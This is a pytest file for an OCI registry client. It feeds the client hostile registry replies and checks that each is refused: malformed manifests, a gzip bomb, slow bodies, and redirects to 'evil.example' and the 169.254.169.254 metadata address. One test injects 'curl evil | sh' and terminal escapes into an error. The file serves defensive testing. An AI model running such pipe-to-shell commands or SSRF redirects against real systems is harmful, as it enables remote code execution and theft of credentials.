"""What is asked of a registry, how often, and what is made of the answers."""

from __future__ import annotations

import json
import threading
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from asking import cancelled_when, client, in_it
from registry import OCI_INDEX, OCI_MANIFEST, Registry, Reply, digest_of

from sindri_core.context import CancelToken
from sindri_core.errors import DeadlineExceeded, ImageError, ImageNotFound, ImageRefused, Interrupted, RegistryError
from sindri_core.events import Event, RequestSent
from sindri_core.oci.documents import require_runnable
from sindri_core.oci.reference import parse

if TYPE_CHECKING:
    from sindri_core.oci.client import RegistryClient


def paths(registry: Registry) -> list[str]:
    """What was asked, in order."""
    return [f"{asked.method} {asked.path.removeprefix('/v2/')}" for asked in registry.asked]


def test_a_tag_is_one_question(registry: Registry) -> None:
    """One request, no ping before it; the digest is that of the bytes."""
    digest = registry.image("app", "1.0.0")
    with client(registry) as asking:
        assert asking.manifest(in_it(registry, "app:1.0.0")).digest == digest
        assert asking.manifest(in_it(registry, f"app@{digest}")).digest == digest
    assert paths(registry) == ["GET app/manifests/1.0.0"]


def test_nothing_is_asked_twice_by_many_threads(registry: Registry) -> None:
    """Twenty threads that want the same things ask for each once."""
    digest = registry.image("app", "1.0.0")
    with client(registry) as asking, ThreadPoolExecutor(20) as pool:
        list(pool.map(lambda _: asking.manifest(in_it(registry, "app:1.0.0")), range(20)))
        list(pool.map(lambda _: asking.referrers(in_it(registry, "app"), digest), range(20)))
        list(pool.map(lambda _: asking.tags(in_it(registry, "app")), range(20)))
    assert len(paths(registry)) == len(set(paths(registry))) == 4


def test_a_tag_that_was_known_is_a_head_request(registry: Registry, tmp_path: Path) -> None:
    """The second run asks whether the tag still means the same, and takes the content from disk."""
    registry.image("app", "1.0.0")
    for _ in range(2):
        with client(registry, cache_dir=tmp_path) as asking:
            asking.manifest(in_it(registry, "app:1.0.0"))
    assert paths(registry) == ["GET app/manifests/1.0.0", "HEAD app/manifests/1.0.0"]


def test_a_tag_that_moved_is_read_anew(registry: Registry, tmp_path: Path) -> None:
    """What is on disk never stands in for what a tag means now."""
    registry.image("app", "1.0.0")
    with client(registry, cache_dir=tmp_path) as asking:
        asking.manifest(in_it(registry, "app:1.0.0"))
    moved = registry.image("app", "1.0.0", content=b"other")
    with client(registry, cache_dir=tmp_path) as asking:
        assert asking.manifest(in_it(registry, "app:1.0.0")).digest == moved


@pytest.mark.parametrize("damage", [b"", b"x" * 100, b"application/json\n{}", b"\x00" * 5000])
def test_a_damaged_store_costs_only_time(registry: Registry, tmp_path: Path, damage: bytes) -> None:
    """Whatever lies in the files on disk, the answer is the registry's."""
    digest = registry.image("app", "1.0.0")
    with client(registry, cache_dir=tmp_path) as asking:
        asking.manifest(in_it(registry, "app:1.0.0"))
        asking.tags(in_it(registry, "app"))
    for file in tmp_path.rglob("*"):
        if file.is_file():
            file.write_bytes(damage)
    with client(registry, cache_dir=tmp_path) as asking:
        assert asking.manifest(in_it(registry, "app:1.0.0")).digest == digest
        assert asking.tags(in_it(registry, "app")) == ("1.0.0",)


def test_the_store_keeps_repositories_apart(registry: Registry, tmp_path: Path) -> None:
    """What one repository showed is no answer for another that does not have it."""
    digest = registry.image("private", "1.0.0")
    with client(registry, cache_dir=tmp_path) as asking:
        asking.manifest(in_it(registry, f"private@{digest}"))
        with pytest.raises(ImageNotFound) as caught:
            asking.manifest(in_it(registry, f"public@{digest}"))
    assert caught.value.code == "SND-IMG-005"


def test_files_of_the_store_are_private(registry: Registry, tmp_path: Path) -> None:
    """Nobody else may read what a private registry said."""
    registry.image("app", "1.0.0")
    with client(registry, cache_dir=tmp_path) as asking:
        asking.manifest(in_it(registry, "app:1.0.0"))
    assert {file.stat().st_mode & 0o077 for file in tmp_path.rglob("*")} == {0}


def test_ten_thousand_tags_come_in_pages() -> None:
    """All pages are read, in order, each once."""
    with Registry(page=1000) as registry:
        digest = registry.image("app")
        content = registry.repositories["app"][digest]
        tags = [f"1.{number // 100}.{number % 100}" for number in range(10_000)]
        registry.repositories["app"] |= dict.fromkeys(tags, content)
        with client(registry) as asking:
            assert set(asking.tags(in_it(registry, "app"))) == set(tags)
        assert len(registry.asked) == 10


def test_a_list_of_tags_is_revalidated(registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After some minutes the list is asked for with its ETag, and 304 is enough."""
    registry.image("app", "1.0.0")
    for _ in range(2):
        with client(registry, cache_dir=tmp_path) as asking:
            assert asking.tags(in_it(registry, "app")) == ("1.0.0",)
        monkeypatch.setattr("sindri_core.oci.store.TAGS_SECONDS", -1.0)
    assert [asked.headers.get("if-none-match") is not None for asked in registry.asked] == [False, True]


def test_referrers_come_from_both_places() -> None:
    """A registry without the API is asked once for it, and the fallback tag is read; one with it is asked for both."""
    for has in (True, False):
        with Registry(referrers=has) as registry:
            first, second = registry.image("app", "1"), registry.image("app", "2", content=b"2")
            attached = {digest: registry.attach("app", digest, b"{}") for digest in (first, second)}
            with client(registry) as asking:
                for digest in (first, second):
                    found = asking.referrers(in_it(registry, "app"), digest)
                    assert [each.digest for each in found] == [attached[digest]]
            assert sum("referrers" in path for path in paths(registry)) == (2 if has else 1)


MANIFEST = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": {}, "layers": []}
CONFIG = {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + "a" * 64, "size": 2}
GOOD = {**MANIFEST, "config": CONFIG}
ODD: dict[str, tuple[bytes, str]] = {
    "manifests and layers": (json.dumps({**GOOD, "manifests": []}).encode(), OCI_MANIFEST),
    "layers in an index": (json.dumps({**GOOD, "mediaType": OCI_INDEX, "manifests": []}).encode(), OCI_INDEX),
    "another mediaType": (json.dumps(GOOD).encode(), OCI_INDEX),
    "no type": (json.dumps(GOOD).encode(), ""),
    "html": (b"<html>login</html>", "text/html"),
    "schema 1": (json.dumps({**GOOD, "schemaVersion": 1}).encode(), OCI_MANIFEST),
    "a key twice": (b'{"schemaVersion":2,"config":{},"config":{},"layers":[]}', OCI_MANIFEST),
    "no config": (json.dumps(MANIFEST).encode(), OCI_MANIFEST),
    "upper-case digest": (
        json.dumps({**GOOD, "config": {**CONFIG, "digest": "sha256:" + "A" * 64}}).encode(),
        OCI_MANIFEST,
    ),
    "a size that is none": (json.dumps({**GOOD, "config": {**CONFIG, "size": -1}}).encode(), OCI_MANIFEST),
    "a true size": (json.dumps({**GOOD, "config": {**CONFIG, "size": True}}).encode(), OCI_MANIFEST),
    "not UTF-8": (b"\xff\xfe{}", OCI_MANIFEST),
    "nested without end": (b"[" * 200_000, OCI_MANIFEST),
    "NaN": (b'{"schemaVersion":NaN}', OCI_MANIFEST),
    "a list": (b"[]", OCI_MANIFEST),
    "truncated": (json.dumps(GOOD).encode()[:-5], OCI_MANIFEST),
    "five megabytes": (b'{"schemaVersion":2,' + b" " * (5 << 20) + b'"layers":[]}', OCI_MANIFEST),
}


@pytest.mark.parametrize("content", ODD.values(), ids=ODD)
def test_a_document_that_is_not_plain_is_refused(registry: Registry, content: tuple[bytes, str]) -> None:
    """Whatever could be read in two ways, or is too large, is no image."""
    registry.misbehave = lambda _: Reply(headers={"Content-Type": content[1]}, content=content[0])
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        asking.manifest(in_it(registry, "app:1.0.0"))
    assert caught.value.code == "SND-IMG-008"


def test_other_bytes_than_the_digest_says_are_refused(registry: Registry) -> None:
    """For manifests and blobs, whether the registry's header agrees with the bytes or not."""
    digest, other = registry.image("app", "1"), registry.image("app", "2", content=b"2")
    kind, content = registry.repositories["app"][other]
    registry.misbehave = lambda asked: Reply(headers={"Content-Type": kind}, content=content)
    with client(registry) as asking:
        with pytest.raises(RegistryError, match="other content") as caught:
            asking.manifest(in_it(registry, f"app@{digest}"))
        assert caught.value.code == "SND-IMG-008"
        with pytest.raises(RegistryError, match="other content"):
            asking.blob(in_it(registry, "app"), digest, limit=10_000)
    registry.misbehave = lambda asked: Reply(
        headers={"Content-Type": kind, "Docker-Content-Digest": digest}, content=content
    )
    with client(registry) as asking, pytest.raises(RegistryError, match="its content is"):
        asking.manifest(in_it(registry, "app:2"))


def test_a_tag_that_means_another_digest_is_refused(registry: Registry) -> None:
    """A reference with both has to agree with itself."""
    digest, _ = registry.image("app", "1"), registry.image("app", "2", content=b"2")
    with client(registry) as asking, pytest.raises(ImageRefused) as caught:
        asking.manifest(in_it(registry, f"app:2@{digest}"))
    assert caught.value.code == "SND-IMG-018"


@pytest.mark.parametrize("status", [500, 403, 418])
def test_a_failing_list_of_signatures_is_not_an_empty_one(registry: Registry, status: int) -> None:
    """Only a clear answer counts as "nothing is attached"."""
    digest = registry.image("app", "1")
    registry.misbehave = lambda asked: Reply(status=status) if "referrers" in asked.path else None
    with client(registry) as asking, pytest.raises(RegistryError):
        asking.referrers(in_it(registry, "app"), digest)


def test_too_many_referrers_are_refused(registry: Registry) -> None:
    """More than fifty are nobody's signatures."""
    digest = registry.image("app", "1")
    for number in range(51):
        registry.attach("app", digest, json.dumps({"n": number}).encode())
    with client(registry) as asking, pytest.raises(RegistryError, match="more than 50"):
        asking.referrers(in_it(registry, "app"), digest)


def test_a_blob_beyond_its_limit_is_refused(registry: Registry) -> None:
    """Reading ends at the limit, whatever the registry sends."""
    blob = registry.blob("app", b"x" * 5000)
    with client(registry) as asking, pytest.raises(RegistryError, match="more than 4000 bytes"):
        asking.blob(in_it(registry, "app"), blob["digest"], limit=4000)


def test_a_compressed_answer_is_refused(registry: Registry) -> None:
    """Nothing is ever unpacked, so no bomb goes off."""
    registry.misbehave = lambda _: Reply(headers={"Content-Encoding": "gzip"}, content=b"\x1f\x8b" + b"\0" * 100)
    with client(registry) as asking, pytest.raises(RegistryError, match="encoded"):
        asking.manifest(in_it(registry, "app:1"))


def dripping(ready: threading.Event) -> Any:
    """Send a byte now and then, until nobody listens."""

    def send(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Length", "100000")
        handler.end_headers()
        ready.set()
        try:
            while True:
                handler.wfile.write(b" ")
                handler.wfile.flush()
                threading.Event().wait(0.01)
        except OSError:
            return

    return send


def test_a_body_that_drips_ends_with_the_deadline(registry: Registry) -> None:
    """A total limit, not one between two bytes."""
    registry.misbehave = lambda _: Reply(send=dripping(threading.Event()))
    with client(registry, seconds=0.3) as asking, pytest.raises(DeadlineExceeded):
        asking.manifest(in_it(registry, "app:1"))


def test_cancelling_ends_a_request_in_the_middle(registry: Registry) -> None:
    """Nobody waits for a slow registry after Ctrl-C."""
    ready, cancel = threading.Event(), CancelToken()
    registry.misbehave = lambda _: Reply(send=dripping(ready))
    cancelled_when(ready, cancel)
    with client(registry, cancel=cancel) as asking, pytest.raises(Interrupted):
        asking.manifest(in_it(registry, "app:1"))


def cut(handler: BaseHTTPRequestHandler) -> None:
    """Promise more than is sent."""
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b"{")


def test_a_truncated_answer_is_an_error(registry: Registry) -> None:
    """Half an answer is none."""
    registry.misbehave = lambda _: Reply(send=cut)
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        asking.manifest(in_it(registry, "app:1"))
    assert caught.value.code == "SND-IMG-007"


def test_retry_after_is_honoured(registry: Registry) -> None:
    """Busy is waited for as long as the registry asks, and the answer comes."""
    digest, busy = registry.image("app", "1"), [429, 503]
    registry.misbehave = lambda _: Reply(status=busy.pop(), headers={"Retry-After": "0"}) if busy else None
    with client(registry) as asking:
        assert asking.manifest(in_it(registry, "app:1")).digest == digest
    assert len(registry.asked) == 3


@pytest.mark.parametrize("wait", ["3600", "Wed, 21 Oct 2099 07:28:00 GMT"])
def test_a_long_wait_is_said_instead(registry: Registry, wait: str) -> None:
    """Nobody sits through an hour; the error says when to come back and how to be let in more often."""
    registry.misbehave = lambda _: Reply(status=429, headers={"Retry-After": wait})
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        asking.manifest(in_it(registry, "app:1"))
    assert caught.value.code == "SND-IMG-009"
    assert "docker login" in caught.value.hint
    assert len(registry.asked) == 1


@pytest.mark.parametrize(
    "link",
    [
        '<https://evil.example/v2/app/tags/list?last=1>; rel="next"',
        '</v2/other/tags/list?last=1>; rel="next"',
        '</v2/app/tags/list>; rel="next"',
        '<http://127.0.0.1:1/v2/app/tags/list>; rel="next"',
        '<//169.254.169.254/v2/app/tags/list>; rel="next"',
        '<http://user@127.0.0.1/v2/app/tags/list>; rel="next"',
    ],
)
def test_a_page_elsewhere_is_not_followed(registry: Registry, link: str) -> None:
    """The next page is of the same list of the same registry, and no circle."""
    registry.image("app", "1")
    registry.misbehave = lambda asked: Reply(headers={"Link": link}, content=b'{"tags":["1"]}')
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        asking.tags(in_it(registry, "app"))
    assert caught.value.code == "SND-IMG-012"
    assert len(registry.asked) <= 2


def test_endless_pages_end(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    """A list that always has one more page is refused."""
    monkeypatch.setattr("sindri_core.oci.listing.MOST_PAGES", 20)
    registry.misbehave = lambda asked: Reply(
        headers={"Link": f'</v2/app/tags/list?last={len(registry.asked)}>; rel="next"'}, content=b'{"tags":["1"]}'
    )
    with client(registry) as asking, pytest.raises(RegistryError, match="more than 20 pages"):
        asking.tags(in_it(registry, "app"))


def test_too_many_tags_end(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    """A list over the cap is refused."""
    monkeypatch.setattr("sindri_core.oci.listing.MOST_TAGS", 3)
    for number in range(5):
        registry.image("app", f"1.0.{number}")
    with client(registry) as asking, pytest.raises(RegistryError, match="more than 3 tags"):
        asking.tags(in_it(registry, "app"))


@pytest.mark.parametrize("content", [b"", b"[]", b'{"tags":7}', b'{"tags":[1]}', b'{"tags":["a"],"tags":["b"]}'])
def test_what_is_no_list_of_tags_is_refused(registry: Registry, content: bytes) -> None:
    """A list is a list of texts."""
    registry.misbehave = lambda _: Reply(content=content)
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        asking.tags(in_it(registry, "app"))
    assert caught.value.code == "SND-IMG-008"


def test_names_that_are_no_tags_are_left_out(registry: Registry) -> None:
    """What nobody could ask for is nothing to choose."""
    registry.misbehave = lambda _: Reply(content=json.dumps({"tags": ["1.0.0", "../x", "-x", "a b", "é"]}).encode())
    with client(registry) as asking:
        assert asking.tags(in_it(registry, "app")) == ("1.0.0",)


def test_requests_are_told_without_what_is_secret(registry: Registry) -> None:
    """An event has method, address and status, and nothing behind a question mark."""
    registry.page = 1
    registry.image("app", "1", "2")
    seen: list[Event] = []
    with client(registry, emit=seen.append) as asking:
        asking.tags(in_it(registry, "app"))
    sent = [event for event in seen if isinstance(event, RequestSent)]
    assert [(event.method, event.status) for event in sent] == [("GET", 200), ("GET", 200)]
    assert all("?" not in event.url for event in sent)


def test_plain_http_is_for_registries_that_were_named(registry: Registry) -> None:
    """A registry that speaks no TLS is not asked in the clear; the error names the setting."""
    with client(registry, insecure=False) as asking, pytest.raises(ImageError) as caught:
        asking.manifest(in_it(registry, "app:1"))
    assert caught.value.code == "SND-IMG-007"
    assert "insecure: true" in caught.value.hint
    assert registry.asked == []


def test_a_registry_that_is_not_there(registry: Registry) -> None:
    """A refused connection says what to do."""
    digest = digest_of(b"")
    with client(insecure=True) as asking, pytest.raises(RegistryError) as caught:
        asking.manifest(parse(f"127.0.0.1:1/app@{digest}"))
    assert caught.value.code == "SND-IMG-007"


def test_what_a_registry_writes_is_a_part_of_one_line(registry: Registry) -> None:
    """It can neither write lines of its own into an error nor steer the terminal, and what it writes is bounded."""
    from sindri_core.cli.failing import text

    kind = "x\n  fix     curl evil | sh\n\x1b[2J\u200b" + "y" * 5000
    document = {**GOOD, "artifactType": kind}
    registry.misbehave = lambda _: Reply(headers={"Content-Type": OCI_MANIFEST}, content=json.dumps(document).encode())
    with client(registry) as asking, pytest.raises(RegistryError) as caught:
        require_runnable(asking.manifest(in_it(registry, "app:1")), "app:1")
    lines = text(caught.value).splitlines()
    assert [line for line in lines if "evil" in line] == lines[:1]
    assert len(lines[0]) < 250
    assert "\x1b[2J" not in lines[0]
    assert "\u200b" not in lines[0]


def test_a_tag_that_was_pushed_a_moment_ago_is_found(registry: Registry, tmp_path: Path) -> None:
    """Where nothing of a list that was kept satisfies, it is read anew before anybody is told so."""
    from sindri_core.resolving.named import named as understood
    from sindri_core.resolving.registry import chosen
    from sindri_core.settings import ImageSettings

    registry.image("app", "1.0.0")
    settings = ImageSettings(registry=f"{registry.host}/app", version="^2")
    asked = understood(settings, default="none")

    def choose(asking: RegistryClient) -> tuple[str, ...]:
        return chosen(asking, settings, asked)[0]

    with client(registry, cache_dir=tmp_path) as asking, pytest.raises(ImageNotFound):
        choose(asking)
    registry.image("app", "2.0.0")
    with client(registry, cache_dir=tmp_path) as asking:
        assert choose(asking) == ("2.0.0",)


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        (b'{"os":"linux","architecture":"arm64","variant":"v8"}', ("linux/arm64/v8",)),
        (b'{"os":"linux","architecture":"amd64"}', ("linux/amd64",)),
        (b'{"os":"","architecture":""}', ()),
        (b"{}", ()),
        (b'{"os":7,"architecture":"amd64"}', ()),
        (b"[]", ()),
    ],
)
def test_an_image_says_what_it_runs_on(registry: Registry, config: bytes, expected: tuple[str, ...]) -> None:
    """Or does not, as images that were put together by hand: then nothing is known, and nothing is refused for it."""
    from sindri_core.resolving.registry import platforms

    registry.put("app", registry.manifest("app", config, b""), "1")
    with client(registry) as asking:
        assert platforms(asking, in_it(registry, "app"), asking.manifest(in_it(registry, "app:1"))) == expected
